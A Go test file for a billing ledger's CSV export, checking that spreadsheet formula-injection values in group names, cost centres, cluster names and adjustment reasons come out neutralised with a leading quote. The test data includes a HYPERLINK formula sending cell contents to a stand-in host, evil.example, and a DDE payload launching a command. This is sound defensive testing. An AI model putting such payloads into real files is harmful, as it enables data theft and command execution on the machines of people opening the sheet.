package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"log/slog"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/parsimony-hpc/parsimony/export"
	"github.com/parsimony-hpc/parsimony/internal/pgtest"
	"github.com/parsimony-hpc/parsimony/ledger"
)

func TestMain(m *testing.M) { pgtest.Main(m) }

// hostileLedger is a ledger whose one billable group, cluster and adjustment
// reason are written to be run by a spreadsheet, with October 2026 rated: 10
// core-hours at 1.25 and a credit of -25.00.
func hostileLedger(t *testing.T) (context.Context, *ledger.Ledger, time.Time) {
	t.Helper()
	ctx := context.Background()
	pool := pgtest.NewPool(t)
	l, err := ledger.Open(ctx, pool, ledger.Options{Location: time.UTC, Currency: "EUR", MinorDigits: 2,
		Logger: slog.New(slog.DiscardHandler),
		Now:    func() time.Time { return time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC) }})
	if err != nil {
		t.Fatal(err)
	}
	g, err := l.CreateGroup(ctx, "test", ledger.NewGroup{Kind: "lab", Slug: "evil", Name: `=HYPERLINK("http://evil.example/?"&A1,"Smith Lab")`,
		Billable: true, CostCentre: "@CC-42"})
	if err != nil {
		t.Fatal(err)
	}
	const cluster = "-2+3+cmd|' /C calc'!A0"
	if _, err := l.SetGroupMapping(ctx, "test", ledger.Mapping{Kind: ledger.KindSlurm, Scope: cluster, Identity: "evil", GroupID: g.ID}); err != nil {
		t.Fatal(err)
	}
	start := time.Date(2026, 10, 5, 9, 0, 0, 0, time.UTC)
	if _, err := l.Ingest(ctx, ledger.Batch{Records: []ledger.Record{{Source: ledger.SourceSlurm, Cluster: cluster,
		ExternalID: "1", Resource: ledger.ResourceCPU, Start: start, End: start.Add(time.Hour), Quantity: 10 * 3600,
		Allocated: 10 * 3600, Used: 5 * 3600, Account: "evil", User: "+alice"}}}); err != nil {
		t.Fatal(err)
	}
	if _, _, err := l.SetRate(ctx, "test", ledger.Rate{Resource: ledger.ResourceCPU, Price: big.NewRat(5, 4),
		ValidFrom: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}); err != nil {
		t.Fatal(err)
	}
	month := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
	if _, err := l.AddAdjustment(ctx, "test", ledger.Adjustment{Period: month, GroupID: g.ID, AmountMinor: -2500,
		Reason: "\t=SUM(A1:A9) credit for the outage"}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.RatePeriod(ctx, "test", month); err != nil {
		t.Fatal(err)
	}
	return ctx, l, month
}

// TestCSVNeutralisesFormulas: a group name, cost centre, cluster and adjustment
// reason that start with = @ - or a tab come out with a quote in front, in the
// drafts of an open month and in the stored lines of a closed one, while the
// numbers (a negative amount among them) stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	ctx, l, month := hostileLedger(t)
	for _, closed := range []bool{false, true} {
		if closed {
			if _, _, err := l.Close(ctx, "test", month); err != nil {
				t.Fatal(err)
			}
		}
		var buf bytes.Buffer
		tot, err := export.CSV(ctx, l, month, &buf)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, c := range recs[0] {
			col[c] = i
		}
		if tot.Lines != 2 || len(recs) != 4 {
			t.Fatalf("closed=%v: %d lines, %d records:\n%q", closed, tot.Lines, len(recs), recs)
		}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if cell == "" {
					continue
				}
				numeric := recs[0][i] == "line_no" || recs[0][i] == "quantity" || recs[0][i] == "unit_price" || recs[0][i] == "amount"
				if !numeric && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("closed=%v: %s cell %q can run as a formula", closed, recs[0][i], cell)
				}
			}
		}
		usage, adj, trailer := recs[1], recs[2], recs[3]
		if usage[col["kind"]] != ledger.LineUsage {
			usage, adj = adj, usage
		}
		for _, c := range []struct{ got, want string }{
			{usage[col["group_name"]], `'=HYPERLINK("http://evil.example/?"&A1,"Smith Lab")`},
			{usage[col["cost_centre"]], "'@CC-42"},
			{usage[col["cluster"]], "'-2+3+cmd|' /C calc'!A0"},
			{adj[col["description"]], "'\t=SUM(A1:A9) credit for the outage"},
			{adj[col["amount"]], "-25.00"},
			{usage[col["amount"]], "12.50"},
			{usage[col["unit_price"]], "1.25"},
			{trailer[col["amount"]], "-12.50"},
			{trailer[col["kind"]], "total"},
		} {
			if c.got != c.want {
				t.Errorf("closed=%v: cell %q, want %q", closed, c.got, c.want)
			}
		}
		if !strings.HasPrefix(usage[col["quantity"]], "10") {
			t.Errorf("closed=%v: usage line %q", closed, usage)
		}
	}
}
